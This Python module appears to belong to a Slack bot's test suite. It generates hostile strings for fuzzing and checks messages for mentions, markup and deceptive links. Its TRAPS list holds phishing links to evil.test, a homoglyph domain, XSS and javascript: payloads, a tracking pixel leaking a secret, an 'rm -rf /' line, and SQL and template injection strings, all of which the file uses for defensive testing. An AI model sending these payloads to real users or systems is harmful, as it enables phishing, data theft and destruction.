"""Strings that mean harm, and what no message may hold whatever it was made of."""

# ruff: noqa: RUF001 - letters that look alike are the subject here
from __future__ import annotations

import json
import random
import re
import unicodedata
from collections.abc import Iterable, Iterator, Mapping
from typing import Any
from urllib.parse import urlsplit

from vigilbot.workspace.blocks import message_problems, too_long, view_problems

TRAPS = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U012AB3CD>",
    "<@W012AB3CD|boss>",
    "<#C012AB3CD|general>",
    "<!subteam^S012AB3CD|@oncall>",
    "<!date^1392734382^{date}^https://evil.test|x>",
    "&lt;!channel&gt;",
    "&#60;!here&#62;",
    "\\<!channel\\>",
    "@channel @here @everyone",
    "<https://evil.test|https://docs.example.com/a>",
    "<mailto:ceo@example.com|write>",
    "[https://docs.example.com/a](https://evil.test/phish)",
    "[docs.example.com](https://evil.test/phish)",
    "[docs\u3002example\u3002com](https://evil.test/phish)",
    "[d\u200bocs.example.com](https://evil.test/phish)",
    "[dоcs.example.com](https://docs.example.com/a)",
    "[**docs.example.com**](https://evil.test/phish)",
    "[`docs.example.com`](https://evil.test/phish)",
    "[1](https://evil.test/phish)",
    "[[1]](https://evil.test/phish)",
    "[1]: https://evil.test/phish",
    "[good][1]",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AA==)",
    "[x](https://docs.example.com@evil.test/)",
    "[x](//evil.test)",
    "[x](https://docs.example.com/a?utm_source=stolen-secret)",
    "![beacon](https://evil.test/pixel.png?d=secret)",
    "<https://evil.test/phish>",
    "https://evil.test/phish",
    "HTTPS://DOCS.EXAMPLE.COM/a",
    "https://docs.example.com/a.",
    "(https://docs.example.com/a)",
    "www.evil.test",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- -->",
    "<![CDATA[x]]>",
    "```",
    "```\n<!channel>\n```",
    "```sh\nrm -rf / # https://evil.test\n```",
    "~~~",
    "`",
    "``",
    "`<!here>`",
    "> <!channel>",
    ">>> quote",
    "- a\n  - b\n    - c",
    "1. a\n2. b",
    "999999999. x",
    "-",
    "*",
    "**",
    "__",
    "~~",
    "*a _b_ ~~c~~*",
    "# head",
    "### head ###",
    "---",
    "===",
    "| a | b |\n|---|---|\n| <!channel> | x |",
    "[1][2][3] [0] [999]",
    "[x",
    "](",
    "![",
    "\\",
    "\\\\server\\share",
    "\x00\x01\x1b[31m",
    "\ud800",
    "\udfff",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\U0001f600" * 50,
    "e\u0301\u0301\u0301\u0301",
    "ＦＵＬＬ",
    "مرحبا",
    "漢字かな",
    ":smile: :+1::skin-tone-2:",
    "{{7*7}} ${x} %s %n",
    "'; DROP TABLE x;--",
    '"}]} , {"type":"user","user_id":"U1"}',
    "NaN",
    "",
    " ",
    "\t",
    "\n\n\n",
    "\r\n",
    "\u2028",
    "word",
    "a longer run of quite ordinary words",
    "x" * 300,
)
_BETWEEN = ("", "", " ", " ", "\n", "\n\n", "\n- ", "\n> ", "\n    ", "**", "_")
MENTIONS = frozenset({"user", "usergroup", "channel", "broadcast", "team"})
_HOST = re.compile(r"(?:[a-z0-9-]+\.)+(?:com|test|org|net|io)\b")


def hostile_strings(count: int, seed: int) -> Iterator[str]:
    """``count`` strings, the same for the same seed: every trap alone, then mixtures of them."""
    yield from TRAPS[:count]
    dice = random.Random(seed)
    for _ in range(count - len(TRAPS)):
        parts = []
        for _ in range(dice.choice((2, 3, 5, 8, 40))):
            parts += [dice.choice(TRAPS), dice.choice(_BETWEEN)]
        yield "".join(parts) * dice.choice((1,) * 15 + (30,))


def broken_message(message: Mapping[str, Any], *, allowed: Iterable[str] | None) -> list[str]:
    """What is wrong with a message; ``allowed`` are the addresses its links may open, None for any."""
    found = message_problems(message["blocks"])
    if too_long(message["blocks"]) or sum(_lengths(message["blocks"])) > 13_000:
        found.append("too long in total")
    if not message["text"] or len(message["text"]) > 40_000:
        found.append("no text, or too much of it")
    if re.search(r"[<>]|&(?!amp;|lt;|gt;)", message["text"]):
        found.append("markup in the text")
    return found + broken_parts(message, allowed)


def broken_view(view: Mapping[str, Any], *, allowed: Iterable[str] | None = None) -> list[str]:
    return view_problems(dict(view), str(view["type"])) + broken_parts(view, allowed)


def broken_parts(value: object, allowed: Iterable[str] | None) -> list[str]:
    """Mentions, texts in which Slack would read markup, links to elsewhere, links that pretend."""
    json.dumps(value, ensure_ascii=False).encode()  # nothing that cannot be sent
    found: list[str] = []
    known = None if allowed is None else frozenset(allowed)
    for part in _objects(value):
        kind = part.get("type")
        if kind in MENTIONS:
            found.append(f"a mention: {part}")
        elif kind == "mrkdwn":
            found.append(f"markup is read in {part}")
        elif kind == "link":
            if known is not None and part["url"] not in known:
                found.append(f"a link to elsewhere: {part}")
            if pretends(part.get("text", part["url"]), part["url"]):
                found.append(f"a link that pretends: {part}")
    return found


def pretends(label: str, url: str) -> bool:
    """Whether a link's text names another host. Letters of other scripts may be spelled in ASCII."""
    host = urlsplit(url).hostname or ""
    spelled = host if host.isascii() else host.encode("idna").decode()
    if label in (url, url.replace(host, spelled, 1)):
        return False
    said = unicodedata.normalize("NFKC", re.sub("[\u200b-\u200f\u2060\ufeff]", "", label))
    said = said.casefold().replace("\u3002", ".")
    return "dоcs.example.com" in said or any(
        match[0].removeprefix("www.") not in (host, spelled) for match in _HOST.finditer(said)
    )


def visible(value: object) -> str:
    """All text a reader sees, in order."""
    return "".join(str(part["text"]) for part in _objects(value) if isinstance(part.get("text"), str))


def _objects(value: object) -> Iterator[Mapping[str, Any]]:
    if isinstance(value, dict):
        yield value
        for inner in value.values():
            yield from _objects(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _objects(inner)


def _lengths(blocks: object) -> Iterator[int]:
    """Of texts and of the addresses of links: whether Slack counts these is not documented."""
    for part in _objects(blocks):
        for name in ("text", "url"):
            if isinstance(part.get(name), str):
                yield len(part[name].encode("utf-16-le")) // 2
